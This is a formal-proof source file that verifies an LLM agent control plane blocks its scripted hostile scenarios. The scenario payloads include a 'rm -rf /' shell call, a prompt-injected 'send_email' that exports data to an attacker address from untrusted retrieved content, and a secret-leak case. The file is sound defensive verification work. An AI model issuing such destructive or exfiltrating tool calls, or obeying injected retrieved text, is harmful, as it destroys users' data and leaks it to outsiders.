-- ===== src/Demo/Safety.antt =====
-- src/agent_control_plane/demo.py: the hostile scenarios.
use llm_agent_control_plane.Base.{
  ℕ, String, false, some, List, [], ◌∷◌, ◌≡◌, refl, inl, inr, arith, Bool-cases, ok, raised,
  string_eq,
}
use llm_agent_control_plane.Models.{
  AgentRequest, PipelineResult, ToolCallPayload, end, field, str, model, retrieved, trusted,
  untrusted, provenance_of,
}
use llm_agent_control_plane.Platform.{Platform}
use llm_agent_control_plane.Host.{Host}
use llm_agent_control_plane.Policy.{PolicyDocument}
use llm_agent_control_plane.Policy.Loading.{load_policy}
use llm_agent_control_plane.Policy.Loading.Soundness.{IsSafePolicy}
use llm_agent_control_plane.Agent.{simulated_llm_adapter, run_simulated_agent, LlmAdapterResponse}
use llm_agent_control_plane.Broker.{BrokerOptions}
use llm_agent_control_plane.Pipeline.{
  World, Clock, ControlPlanePipeline, Outcome, run_vulnerable, run_protected, run_protected_at,
  under_policy,
}
use llm_agent_control_plane.Pipeline.Safety.{run_protected-IsCleared}
use llm_agent_control_plane.Pipeline.Harmless.{Harmless, run_vulnerable-Harmless}
use llm_agent_control_plane.Pipeline.Injection.{run_protected-of_content, run_protected-of_disabled}
use llm_agent_control_plane.Demo.{Scripted, base_request, hostile_scenarios, run_scripted}

-- The turns return having executed nothing, or raise.
abbrev IsIdle : Outcome PipelineResult → Type 0
IsIdle (ok r, w') = r.tool_executed ≡ false
IsIdle (raised e, w') = Unit

IsIdle-of :
    (o : Outcome PipelineResult)
    → ((r : PipelineResult) (w' : World) → o ≡ (ok r, w') → r.tool_executed ≡ false)
    → IsIdle o
IsIdle-of (ok r, w') h = h r w' refl
IsIdle-of (raised e, w') h = tt

abbrev pub AllIdle : (Scripted → World → Outcome PipelineResult) → List Scripted → Type 0
AllIdle run [] = Unit
AllIdle run (s ∷ rest) = ((w : World) → IsIdle (run s w)) × AllIdle run rest

-- The pipeline of the lab, with its simulated adapter.
abbrev pub lab_pipeline : Platform → BrokerOptions → ℕ → ControlPlanePipeline
lab_pipeline platform options elapsed_ms = record {
  options = options;
  llm_adapter = simulated_llm_adapter platform elapsed_ms;
}

module _ (platform : Platform) (host : Host) (options : BrokerOptions) (elapsed_ms : ℕ)
    (clock : Clock) (policy_path : String) (policy : PolicyDocument) where
  under : AgentRequest → World → Outcome PipelineResult
  under request w =
      run_protected platform (lab_pipeline platform options elapsed_ms) policy clock request w

  -- The call of `shell_attempt`, and that of `injection_send_email`.
  abbrev shell_call : ToolCallPayload
  shell_call = record {
    tool_name = "run_shell";
    arguments = field "command" (str "rm -rf /") end;
    target = some "tenant-a";
    provenance = some (provenance_of model trusted ("model-turn" ∷ []));
  }

  abbrev email_call : ToolCallPayload
  email_call = record {
    tool_name = "send_email";
    arguments =
        field "to" (str "attacker@example.invalid")
          (field "subject" (str "Exported data") (field "body" (str "See attachment") end));
    target = some "tenant-a";
    provenance = some (provenance_of retrieved untrusted ("rag-inject-1" ∷ []));
  }

  shell-IsIdle : IsSafePolicy policy → (w : World) → IsIdle (under (base_request "shell_attempt") w)
  unfolding under base_request simulated_llm_adapter run_simulated_agent string_eq
  shell-IsIdle s w =
      let (tp, listed) = s.demo "run_shell" (inr (inr (inr (inr (inl refl))))) in
      IsIdle-of _ (
        run_protected-of_disabled platform (lab_pipeline platform options elapsed_ms) policy clock
          (base_request "shell_attempt") w shell_call tp (_, refl, refl) listed
          ((s.safe "run_shell" tp listed).shell_disabled refl))

  email-IsIdle :
      (request : AgentRequest)
      → request.scenario ≡ "injection_send_email"
      → request.tenant_id ≡ "tenant-a"
      → (w : World) → IsIdle (under request w)
  unfolding under simulated_llm_adapter run_simulated_agent string_eq provenance_of
  email-IsIdle request scenario tenant w = IsIdle-of _ (
      run_protected-of_content platform (lab_pipeline platform options elapsed_ms) policy clock
        request w email_call (provenance_of retrieved untrusted ("rag-inject-1" ∷ []))
        (_, refl, rw (scenario, tenant) refl) refl (inl refl))

  -- No call, no execution.
  leak-IsIdle : (w : World) → IsIdle (under (base_request "output_secret_leak") w)
  unfolding under base_request simulated_llm_adapter run_simulated_agent string_eq
  leak-IsIdle w = IsIdle-of _ λ r w' run. elim (Bool-cases r.tool_executed) [
    | inr idle ↦ idle
    | inl done ↦
        let (t, c, result, consumed) =
          run_protected-IsCleared platform (lab_pipeline platform options elapsed_ms) policy clock
            (base_request "output_secret_leak") w r w' run done in
        absurd (unasked c.response t c.produced c.requested)
  ]
    where
      unasked :
          (response : LlmAdapterResponse) (t : ToolCallPayload)
          → (lab_pipeline platform options elapsed_ms).llm_adapter.generate
              (base_request "output_secret_leak")
            ≡ ok response
          → response.tool_call ≡ some t
          → ⊥
      unasked response t produced requested = ground (arith, produced, requested)

  vulnerable-IsIdle :
      (request : AgentRequest) (w : World)
      → IsIdle (run_vulnerable platform (lab_pipeline platform options elapsed_ms) clock request w)
  unfolding simulated_llm_adapter
  vulnerable-IsIdle request w = IsIdle-of _ λ r w' run. harmless r w' (
      rw run at (
        run_vulnerable-Harmless platform (lab_pipeline platform options elapsed_ms) clock request w
          _ refl))
    where
      harmless :
          {text : String} (r : PipelineResult) (w' : World)
          → Harmless clock text w (ok r, w')
          → r.tool_executed ≡ false
      harmless r w' (p, a, e, s, f, u) = e

  at_policy :
      (request : AgentRequest)
      → load_policy platform host policy_path ≡ ok policy
      → ((w : World) → IsIdle (under request w))
      → (w : World)
      → IsIdle (
          run_protected_at platform
            (lab_pipeline platform options elapsed_ms)
            clock
            request
            host
            policy_path
            w)
  unfolding run_protected_at under_policy under
  at_policy request loaded idle w = rw loaded (idle w)

  -- With the simulated adapter, and under a loaded policy that denies by default, isolates tenants
  -- strictly, lists the tools of the demo and keeps the security invariants of the tools that it
  -- lists, each of the demo's six scripted turns after the first has executed nothing if it
  -- returns, whatever the world is at its time.
  pub hostile-AllIdle :
      load_policy platform host policy_path ≡ ok policy
      → IsSafePolicy policy
      → AllIdle
          (run_scripted platform host (lab_pipeline platform options elapsed_ms) policy_path clock)
          hostile_scenarios
  unfolding hostile_scenarios run_scripted string_eq base_request
  hostile-AllIdle loaded s = (
    vulnerable-IsIdle _,
    (
      at_policy _ loaded (shell-IsIdle s),
      (
        at_policy _ loaded (email-IsIdle _ refl refl),
        (
          at_policy _ loaded (email-IsIdle _ refl refl),
          (at_policy _ loaded leak-IsIdle, (at_policy _ loaded (shell-IsIdle s), tt)),
        ),
      ),
    ),
  )
